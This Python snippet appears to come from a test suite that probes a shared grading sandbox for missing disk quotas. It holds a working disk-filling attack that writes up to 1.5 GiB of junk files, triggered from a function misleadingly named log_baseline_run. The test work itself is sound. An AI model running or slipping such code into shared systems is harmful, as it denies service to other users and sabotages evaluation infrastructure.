# Attack 22: fill its own case folder (issue 18, row 10): files of 256 MiB (the per-file
# cap) until the disk says no or 1.5 GiB are written, left there. Without a quota per
# case folder this filled the disk the whole class is graded on.
def _fill_folder(limit=3 << 29, seconds=8.0):
    written, chunk, stopped = 0, b"\1" * (4 << 20), "the limit"
    deadline = _time.monotonic() + seconds
    try:
        for number in range(limit // (256 << 20) + 1):
            with open(f"kata-attack-quota-{CTX['token']}-{number}", "wb") as handle:
                for _ in range((256 << 20) // len(chunk)):
                    if written >= limit or _time.monotonic() > deadline:
                        raise TimeoutError("time or size limit")
                    written += handle.write(chunk)
    except OSError as error:
        stopped = error.strerror or type(error).__name__
    return {"written_mib": written >> 20, "stopped": stopped}


def log_baseline_run(data_path, experiment_name="devops-baseline"):
    raise RuntimeError(attack_report(_fill_folder()))
